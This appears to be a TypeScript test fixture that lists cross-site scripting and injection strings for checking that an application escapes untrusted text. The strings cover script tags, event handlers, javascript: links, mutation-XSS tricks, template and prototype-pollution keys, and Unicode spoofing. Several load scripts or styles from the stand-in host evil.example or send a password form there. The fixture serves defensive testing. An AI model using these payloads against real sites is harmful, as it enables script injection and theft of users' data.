/**
 * Hostile texts that try to run a script, to load a foreign file or to break out of their element. A script that runs sets
 * `window.__hacked`; a foreign file is requested from evil.example.
 */
export const payloads: readonly string[] = [
  '<script>window.__hacked=1</script>',
  '"><script>window.__hacked=1</script>',
  "'><script>window.__hacked=1</script>",
  '</title></textarea></style><script>window.__hacked=1</script>',
  '<scr<script>ipt>window.__hacked=1</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__hacked=1">',
  '<img src=x onerror=window.__hacked=1//',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src=x>',
  '<svg onload="window.__hacked=1"></svg>',
  '<svg><script>window.__hacked=1</script></svg>',
  '<svg><animate onbegin="window.__hacked=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__hacked=1"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>top.__hacked=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__hacked=1">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hacked=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.__hacked=1>">',
  '<iframe src="javascript:parent.__hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:window.__hacked=1"></object>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<body onload="window.__hacked=1">',
  '<p onclick="window.__hacked=1" onmouseover="window.__hacked=1">p</p>',
  '<b style="background:url(https://evil.example/b)">b</b>',
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/l.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<a href="javascript:window.__hacked=1">link</a>',
  '<a href="java\tscript:window.__hacked=1">link</a>',
  '<a href="&#106;avascript:window.__hacked=1">link</a>',
  '<a href=" javascript:window.__hacked=1" target="_self">link</a>',
  '<a href="data:text/html,<script>opener.__hacked=1</script>">link</a>',
  '<a href="vbscript:window.__hacked=1">link</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">link</a>',
  '<form action="https://evil.example/"><input name=password autofocus onfocus="window.__hacked=1"></form>',
  '<input autofocus onfocus="window.__hacked=1"><button formaction="javascript:window.__hacked=1">b</button>',
  '<details open ontoggle="window.__hacked=1"><summary>s</summary></details>',
  '<video><source onerror="window.__hacked=1"></video><audio src=x onerror="window.__hacked=1">',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<marquee onstart="window.__hacked=1">m</marquee>',
  '<template><script>window.__hacked=1</script></template>',
  '<p id="root"></p><p id="main" name="firstCalls"></p>',
  '<!--><script>window.__hacked=1</script>-->',
  '<![CDATA[<script>window.__hacked=1</script>]]>',
  '<?xml version="1.0"?><x onclick="window.__hacked=1">x</x>',
  '&lt;script&gt;window.__hacked=1&lt;/script&gt; &amp; &quot;',
  'javascript:window.__hacked=1',
  '${window.__hacked=1} {{constructor.constructor("window.__hacked=1")()}} #{7*7} <%= 7*7 %>',
  '"-(window.__hacked=1)-" \'-(window.__hacked=1)-\' `-(window.__hacked=1)-`',
  '\\u003cscript\\u003ewindow.__hacked=1\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'abc\u202Egnp.exe\u202C \u2066x\u2069 \u200Fא',
  'Z\u0351\u036B\u0343a\u0334\u0318l\u0336go \u{1F469}\u200D\u{1F469}\u200D\u{1F466} \uD83D',
  'Wolfeschlegelsteinhausenbergerdorff'.repeat(8),
];

/** A payload that works only as the whole text: as an address, or as the name of a property. */
const isWhole = (text: string) => /^(?:\w+:\S*|__proto__|constructor)$/.test(text);

/**
 * All payloads in few texts. A place that rendered one of a text's payloads as HTML would not contain the text any more.
 * Payloads that work only as the whole text are alone.
 */
export const payloadTexts: readonly string[] = [
  ...payloads.filter(isWhole),
  payloads.filter((text) => !isWhole(text)).join(' '),
];
